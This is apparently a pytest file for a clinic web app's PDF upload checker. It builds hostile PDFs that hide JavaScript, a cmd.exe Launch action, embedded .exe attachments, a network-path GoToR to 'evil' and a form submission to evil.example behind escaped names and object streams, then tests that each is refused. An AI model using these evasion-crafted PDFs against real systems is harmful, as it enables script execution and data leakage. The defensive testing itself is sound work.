"""A PDF with active content is refused however it is written: names spelled with #xx escapes,
objects packed in compressed object streams, actions on pages, annotations and form fields.

The byte search that came before let every hostile file here through; each is a well-formed PDF
that pypdf (and a viewer) reads.
"""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter

from clinic.tests.pdfs import CATALOG, PAGE, PAGES, pdf, pdf_with_object_stream
from clinic.uploads import check_upload

ACTIVE = "This PDF contains scripts, attachments or launch actions"
ENCRYPTED = "This PDF is password-protected or encrypted"
DAMAGED = "This PDF is incomplete or damaged"
TOO_COMPLEX = "This PDF is too complex to check"


def refusal(data):
    with pytest.raises(ValidationError) as excinfo:
        check_upload(SimpleUploadedFile("report.pdf", data))
    return " ".join(excinfo.value.messages)


def page_with(annotation):
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [" + annotation + b"] >>"


ATTACHED = b"<< /Length 11 >>\nstream\nMZ-program\nendstream"
HOSTILE = {
    "openaction-javascript-escaped": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>", PAGES, PAGE
    ),
    "openaction-javascript-in-object-stream": pdf_with_object_stream(
        [PAGES.replace(b"2 0 R", b"1 0 R"), PAGE.replace(b"2 0 R", b"1 0 R")],
        [b"<< /Type /Catalog /Pages 1 0 R /OpenAction 4 0 R >>", b"<< /S /JavaScript /JS (app.alert(1)) >>"],
        root=3,
    ),
    "page-additional-action-in-object-stream": pdf_with_object_stream(
        [CATALOG, PAGES],
        [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O << /S /JavaScript /JS (x()) >> >> >>"],
    ),
    "launch-in-link-annotation-escaped": pdf(
        CATALOG,
        PAGES,
        page_with(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /L#61unch /F (cmd.exe) >> >>"),
    ),
    "embedded-files-names-tree-escaped": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /E#6dbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>",
        PAGES,
        PAGE,
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        ATTACHED,
    ),
    "file-attachment-annotation": pdf(
        CATALOG,
        PAGES,
        page_with(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>"),
        b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        ATTACHED,
    ),
    "form-field-keystroke-script-in-object-stream": pdf_with_object_stream(
        [PAGES, PAGE],
        [
            b"<< /Type /Catalog /Pages 1 0 R /AcroForm << /Fields [4 0 R] >> >>",
            b"<< /FT /Tx /T (name) /AA << /K << /S /JavaScript /JS (x()) >> >> >>",
        ],
        root=3,
    ),
    "xfa-form": pdf(b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>", PAGES, PAGE, b"[]"),
    "richmedia-annotation-escaped": pdf(
        CATALOG, PAGES, page_with(b"<< /Type /Annot /Subtype /R#69chMedia /Rect [0 0 9 9] >>")
    ),
    "remote-file-over-a-network-path": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\x.pdf) /D [0 /Fit] >> >>",
        PAGES,
        PAGE,
    ),
    "form-submitted-elsewhere": pdf(
        CATALOG,
        PAGES,
        page_with(
            b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://evil.example) >> >>"
        ),
    ),
}


@pytest.mark.parametrize("data", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_pdf_with_active_content_is_refused_however_it_is_written(data):
    PdfReader(io.BytesIO(data), strict=True).trailer["/Root"].get_object()  # the control: a readable PDF

    assert ACTIVE in refusal(data)


def test_active_content_packed_in_an_object_stream_is_not_visible_in_the_bytes():
    data = HOSTILE["openaction-javascript-in-object-stream"]

    assert b"JavaScript" not in data and b"/JS" not in data


def fpdf_report(pages):
    document = FPDF()
    document.set_font("helvetica", size=11)
    for number in range(pages):
        document.add_page()
        document.multi_cell(0, 6, f"Discharge summary, page {number + 1}. " * 20)
        document.link(10, 10, 40, 6, "https://clinic.example/guide")  # an ordinary link stays allowed
    return bytes(document.output())


def test_a_clean_multi_page_pdf_with_links_is_accepted():
    data = fpdf_report(12)

    checked = check_upload(SimpleUploadedFile("summary.pdf", data))

    assert checked.content_type == "application/pdf"
    assert len(PdfReader(io.BytesIO(data)).pages) == 12


def test_a_clean_pdf_with_object_streams_is_accepted():
    data = pdf_with_object_stream([PAGES.replace(b"2 0 R", b"1 0 R")], [b"<< /Type /Catalog /Pages 1 0 R >>"], root=2)

    assert check_upload(SimpleUploadedFile("scan.pdf", data)).content_type == "application/pdf"


def test_an_encrypted_pdf_is_refused_with_a_way_out():
    writer = PdfWriter(clone_from=io.BytesIO(fpdf_report(1)))
    writer.encrypt(user_password="", owner_password="secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)

    assert ENCRYPTED in refusal(out.getvalue())


def test_a_pdf_that_cannot_be_parsed_is_refused_as_damaged():
    data = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages [ 2 0 R >> endobj\n" + bytes(range(256)) + b"\n%%EOF\n"

    assert DAMAGED in refusal(data)
